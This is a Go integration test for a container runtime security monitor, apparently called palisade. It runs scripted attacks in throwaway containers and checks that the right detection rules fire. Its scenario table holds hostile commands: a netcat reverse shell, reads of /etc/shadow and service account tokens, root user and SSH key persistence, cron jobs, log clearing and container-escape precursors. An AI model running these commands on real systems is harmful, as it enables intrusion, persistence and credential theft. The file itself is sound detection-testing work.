package scenario

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/palisade-sec/palisade/internal/cli"
	"github.com/palisade-sec/palisade/internal/testutil"
)

type syncBuffer = testutil.SyncBuffer

// watchInProcess runs `palisade watch --store none --metrics none args...`
// in this process and returns once it is watching; the test fails if watch
// exits first or is not ready within 20 s. stop ends it and returns its
// exit code; it also runs when the test ends, and only once.
func watchInProcess(t *testing.T, args ...string) (stdout, stderr *syncBuffer, stop func() int) {
	t.Helper()
	ctx, cancel := context.WithCancel(context.Background())
	stdout, stderr = &syncBuffer{}, &syncBuffer{}
	done := make(chan int, 1)
	go func() {
		done <- cli.Run(ctx, append([]string{"watch", "--store", "none", "--metrics", "none"}, args...), strings.NewReader(""), stdout, stderr)
	}()
	var once sync.Once
	code := 0
	stop = func() int {
		once.Do(func() { cancel(); code = <-done })
		return code
	}
	t.Cleanup(func() { stop() })
	for start := time.Now(); !strings.Contains(stderr.String(), "watching:"); time.Sleep(20 * time.Millisecond) {
		if time.Since(start) > 20*time.Second {
			t.Fatalf("watch not ready: %s", stderr.String())
		}
		select {
		case c := <-done:
			done <- c // for stop
			t.Fatalf("watch exited %d: %s", c, stderr.String())
		default:
		}
	}
	return stdout, stderr, stop
}

type alertJSON struct {
	Rule         string         `json:"rule"`
	Output       string         `json:"output"`
	OutputFields map[string]any `json:"output_fields"`
}

func alertsFor(out, container string) []alertJSON {
	var res []alertJSON
	for _, line := range strings.Split(out, "\n") {
		var a alertJSON
		if json.Unmarshal([]byte(line), &a) != nil {
			continue
		}
		if a.OutputFields["container.name"] == container {
			res = append(res, a)
		}
	}
	return res
}

func docker(t *testing.T, args ...string) string {
	t.Helper()
	out, err := exec.Command("docker", args...).CombinedOutput()
	if err != nil {
		t.Fatalf("docker %s: %v\n%s", strings.Join(args, " "), err, out)
	}
	return strings.TrimSpace(string(out))
}

// TestAttackScenarios runs each attack in its own container under
// `palisade watch --builtin` and checks that exactly the expected built-in
// rules fire for that container, within 2 s, naming it correctly.
func TestAttackScenarios(t *testing.T) {
	testutil.RequireBPF(t)
	img := testutil.RequireBusyboxImage(t)
	tmp := t.TempDir()
	attacker := testutil.BuildStatic(t, "./internal/scenario/testdata/attacker", filepath.Join(tmp, "bin", "attacker"))
	token := filepath.Join(tmp, "token")
	os.WriteFile(token, []byte("eyJhbGciOiJSUzI1NiJ9.test.token"), 0o644)

	run := fmt.Sprintf("palisade-scn-%d", time.Now().UnixNano()%1e6)
	listener := run + "-listener"
	docker(t, "run", "-d", "--name", listener, img, "sh", "-c",
		"for p in 3333 6443 8080 9001; do (while true; do nc -l -p $p </dev/null >/dev/null 2>&1; done) & done; wait")
	t.Cleanup(func() { exec.Command("docker", "rm", "-f", listener).Run() })
	lip := docker(t, "inspect", "-f", "{{.NetworkSettings.IPAddress}}", listener)
	if lip == "" {
		t.Fatal("listener has no IP address")
	}

	stdout, stderr, stop := watchInProcess(t, "--builtin", "--all-matches", "-o", "json", "--ring-buffer", "64")

	mountAttacker := []string{"-v", filepath.Dir(attacker) + ":/attacker:ro"}
	// Scenarios run a shell script, or (cmd) a program directly: busybox's
	// shell runs applets through /proc/self/exe, which names them "exe",
	// so rules about a tool's name get the tool exec'd for real.
	// A host process with no capabilities, whose /proc/PID/root a container
	// sharing the host's pid namespace may open (a process with more
	// capabilities than the container's is refused to it).
	hostProc := exec.Command("setpriv", "--bounding-set", "-all", "sleep", "300")
	if err := hostProc.Start(); err != nil {
		t.Fatalf("setpriv: %v", err)
	}
	defer func() { hostProc.Process.Kill(); hostProc.Wait() }()
	scenarios := []struct {
		name   string
		opts   []string
		script string
		want   []string
		cmd    []string
	}{
		{"sensitive-read", nil, "cat /etc/shadow", []string{"Read sensitive file untrusted"}, nil},
		{"binary-dir-write", nil, "echo x > /bin/evil", []string{"Write below binary dir"}, nil},
		{"outbound", nil, "nc -w 1 " + lip + " 8080 </dev/null", []string{"Unexpected outbound connection destination", "Network tool run in container"}, nil},
		// A blocking connect refused by a closed port is an attempt too.
		{"outbound-refused", nil, "nc -w 1 " + lip + " 7 </dev/null", []string{"Unexpected outbound connection destination", "Network tool run in container"}, nil},
		{"runtime-socket", append([]string{"-v", "/var/run/docker.sock:/var/run/docker.sock"}, mountAttacker...), "/attacker/attacker unix /var/run/docker.sock", []string{"Container runtime socket access from container"}, nil},
		{"mount", nil, "mount -t tmpfs none /mnt", []string{"Mount in container"}, nil},
		{"release-agent", nil, "mkdir -p /tmp/cgrp && echo /evil > /tmp/cgrp/release_agent", []string{"Cgroup release_agent or notify_on_release write"}, nil},
		{"unshare", nil, "unshare -U true", []string{"User namespace created in container"}, nil},
		// Kernel-exploit precursors (issue 20): under the default profile
		// (refused or not, by Docker's version) and with what they need.
		{"clone-userns", append([]string{"--cap-add", "SYS_ADMIN", "--security-opt", "seccomp=unconfined"}, mountAttacker...), "/attacker/attacker clone-userns", []string{"User namespace created in container"}, nil},
		{"clone3-userns", append([]string{"--security-opt", "seccomp=unconfined"}, mountAttacker...), "/attacker/attacker clone3-userns", []string{"User namespace created in container"}, nil},
		{"add-key", mountAttacker, "/attacker/attacker add-key", []string{"Kernel keyring call in container"}, nil},
		{"add-key-unconfined", append([]string{"--security-opt", "seccomp=unconfined"}, mountAttacker...), "/attacker/attacker add-key", []string{"Kernel keyring call in container"}, nil},
		{"io-uring", mountAttacker, "/attacker/attacker iouring", []string{"io_uring setup in container"}, nil},
		{"io-uring-unconfined", append([]string{"--security-opt", "seccomp=unconfined"}, mountAttacker...), "/attacker/attacker iouring", []string{"io_uring setup in container"}, nil},
		// bpf and module loading past the profile: a socket filter loads;
		// finit_module of /dev/null can load nothing.
		{"bpf-privileged", append([]string{"--cap-add", "SYS_ADMIN", "--security-opt", "seccomp=unconfined"}, mountAttacker...), "/attacker/attacker bpf", []string{"BPF call from container"}, nil},
		{"module-privileged", append([]string{"--cap-add", "SYS_MODULE", "--security-opt", "seccomp=unconfined"}, mountAttacker...), "/attacker/attacker module", []string{"Kernel module load from container"}, nil},
		{"userfaultfd", mountAttacker, "/attacker/attacker userfaultfd", []string{"Unprivileged delegation of page faults handling to a userspace process"}, nil},
		{"keyctl", mountAttacker, "/attacker/attacker keyctl", []string{"Kernel keyring call in container"}, nil},
		{"keyctl-unconfined", append([]string{"--security-opt", "seccomp=unconfined"}, mountAttacker...), "/attacker/attacker keyctl", []string{"Kernel keyring call in container"}, nil},
		// /proc/sys is writable only with the system paths unconfined; the file is
		// opened for writing and left unchanged.
		{"core-pattern", append([]string{"--security-opt", "systempaths=unconfined"}, mountAttacker...), "/attacker/attacker openw /proc/sys/kernel/core_pattern", []string{"Write to core_pattern or sysrq-trigger", "Write below /proc/sys or /sys from container"}, nil},
		{"nsenter", nil, "", []string{"Nsenter launched", "Namespace change in container"}, []string{"nsenter", "-t", "1", "-m", "true"}},
		{"ptrace", mountAttacker, "/attacker/attacker ptrace", []string{"Ptrace attach in container"}, nil},
		{"bpf", mountAttacker, "/attacker/attacker bpf", []string{"BPF call from container"}, nil},
		{"module", mountAttacker, "/attacker/attacker module", []string{"Kernel module load from container"}, nil},
		{"open-by-handle", mountAttacker, "/attacker/attacker handle", []string{"Open by handle in container"}, nil},
		// The host's pid namespace: /proc/PID/root of a host process is the
		// host's /; the file opened is outside the container's root.
		{"host-root-via-proc", []string{"--pid=host"}, fmt.Sprintf("sleep 0.2; cat /proc/%d/root/etc/hostname", hostProc.Process.Pid), []string{"Host file opened from container"}, nil},
		{"capset", mountAttacker, "/attacker/attacker capset", []string{"Capabilities changed in container"}, nil},
		{"setuid-bit", nil, "cp /bin/busybox /tmp/x && chmod u+s /tmp/x", []string{"Set setuid or setgid bit"}, nil},
		{"su", nil, "", []string{"Sudo or su in container"}, []string{"su", "-c", "true", "root"}},
		{"drift", nil, "cp /bin/busybox /tmp/bb && /tmp/bb true", []string{"Drift detected (exec of a file created in the container)"}, nil},
		{"memfd", mountAttacker, "/attacker/attacker memfd", []string{"Fileless or shared-memory execution"}, nil},
		{"reverse-shell", nil, "nc -w 2 " + lip + " 9001 -e /bin/sh", []string{"Reverse shell", "Unexpected outbound connection destination", "Network tool run in container"}, nil},
		{"miner", nil, "nc -w 1 " + lip + " 3333 </dev/null", []string{"Crypto-miner pool connection", "Unexpected outbound connection destination", "Network tool run in container"}, nil},
		{"package-manager", []string{"-v", attacker + ":/usr/bin/apt-get:ro"}, "/usr/bin/apt-get install nmap; true", []string{"Package manager in container"}, nil},
		{"passwd-write", nil, "echo 'x:x:0:0::/:/bin/sh' >> /etc/passwd", []string{"Write to user database"}, nil},
		{"authorized-keys", nil, "mkdir -p /root/.ssh && echo ssh-ed25519 AAAA >> /root/.ssh/authorized_keys", []string{"Write to SSH authorized_keys"}, nil},
		{"cron", nil, "mkdir -p /etc/cron.d && echo '* * * * * root sh' > /etc/cron.d/evil", []string{"Write to cron"}, nil},
		{"log-clearing", nil, "mkdir -p /var/log && : > /var/log/auth.log", []string{"Log clearing"}, nil},
		{"sa-token", []string{"-v", token + ":/var/run/secrets/kubernetes.io/serviceaccount/token:ro"}, "", []string{"Kubernetes service account token read"}, []string{"cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"}},
		{"api-server", nil, "nc -w 1 " + lip + " 6443 </dev/null", []string{"Contact Kubernetes API server from container", "Unexpected outbound connection destination", "Network tool run in container"}, nil},
		// Evasions of name-only rules (issue 17): a script run through an
		// interpreter from /dev/shm, busybox's shell named by its first
		// argument, and hard links to a credential file and to a binary.
		{"shm-script", nil, "echo 'echo hi' > /dev/shm/x.sh; sh /dev/shm/x.sh", []string{"Interpreter running a script from a suspicious location"}, nil},
		{"busybox-shm-script", nil, "echo 'echo hi' > /dev/shm/x.sh; busybox sh /dev/shm/x.sh", []string{"Interpreter running a script from a suspicious location"}, nil},
		{"hardlink-shadow", nil, "ln /etc/shadow /tmp/h", []string{"Create hardlink over sensitive files"}, nil},
		{"hardlink-binary", nil, "ln /bin/busybox /tmp/victim", []string{"Create hardlink over sensitive files"}, nil},
	}
	for _, sc := range scenarios {
		t.Run(sc.name, func(t *testing.T) {
			name := run + "-" + sc.name
			args := append([]string{"run", "--rm", "--name", name}, sc.opts...)
			if sc.cmd != nil {
				args = append(append(args, img), sc.cmd...)
			} else {
				args = append(args, img, "sh", "-c", sc.script)
			}
			out, _ := exec.Command("docker", args...).CombinedOutput() // refused attempts exit non-zero
			t.Logf("%s: %s", sc.name, strings.TrimSpace(string(out)))
			checkAlerts(t, stdout, name, sc.want)
		})
	}

	// An interactive shell through docker exec -t (not the entrypoint):
	// by name, as `busybox sh` (argv[0] is busybox), and a real bash run
	// through a symlink named notashell.
	bashImg := testutil.RequireBashImage(t)
	for _, tc := range []struct {
		name, image, setup string
		shell              []string
	}{
		{"terminal-shell", img, "", []string{"sh", "-c", "true"}},
		{"terminal-busybox-sh", img, "", []string{"busybox", "sh", "-c", "true"}},
		{"terminal-notashell", bashImg, "ln -s /bin/bash /tmp/notashell", []string{"/tmp/notashell", "-c", "true"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			name := run + "-" + tc.name
			docker(t, "run", "-d", "--name", name, tc.image, "sleep", "30")
			defer exec.Command("docker", "rm", "-f", name).Run()
			if tc.setup != "" {
				docker(t, "exec", name, "sh", "-c", tc.setup)
			}
			exec.Command("docker", append([]string{"exec", "-t", name}, tc.shell...)...).Run()
			checkAlerts(t, stdout, name, []string{"Terminal shell in container"})
		})
	}

	// A userspace storage driver (fuse-overlayfs) replays the containers'
	// writes on the host's backing files: those replays are not attacks.
	t.Run("no-storage-driver-copies", func(t *testing.T) {
		for _, line := range strings.Split(stdout.String(), "\n") {
			if strings.Contains(line, `"proc.name":"fuse-overlayfs"`) {
				t.Errorf("host-context copy of a container's alert: %s", line)
			}
		}
	})

	if c := stop(); c != 0 {
		t.Fatalf("watch exit %d: %s", c, stderr.String())
	}
}

// checkAlerts waits up to 2 s for the wanted rules from the container, then
// checks nothing else fired for it and the alert names it correctly.
func checkAlerts(t *testing.T, stdout *syncBuffer, container string, want []string) {
	t.Helper()
	deadline := time.Now().Add(2 * time.Second)
	var got []alertJSON
	for {
		got = alertsFor(stdout.String(), container)
		if hasAll(got, want) || time.Now().After(deadline) {
			break
		}
		time.Sleep(50 * time.Millisecond)
	}
	time.Sleep(200 * time.Millisecond) // let stragglers arrive before checking for extras
	got = alertsFor(stdout.String(), container)
	if !hasAll(got, want) {
		t.Errorf("within 2 s: got rules %v, want %v", ruleNames(got), want)
	}
	for _, a := range got {
		if !contains(want, a.Rule) {
			t.Errorf("unexpected alert %q: %s", a.Rule, a.Output)
		}
		id, _ := a.OutputFields["container.id"].(string)
		if len(id) != 12 || a.OutputFields["container.image.repository"] != "palisade-test" {
			t.Errorf("alert %q does not name the container: %v", a.Rule, a.OutputFields)
		}
	}
}

func hasAll(got []alertJSON, want []string) bool {
	names := ruleNames(got)
	for _, w := range want {
		if !contains(names, w) {
			return false
		}
	}
	return true
}

func ruleNames(as []alertJSON) []string {
	var out []string
	for _, a := range as {
		if !contains(out, a.Rule) {
			out = append(out, a.Rule)
		}
	}
	sort.Strings(out)
	return out
}

func contains(l []string, s string) bool {
	for _, x := range l {
		if x == s {
			return true
		}
	}
	return false
}
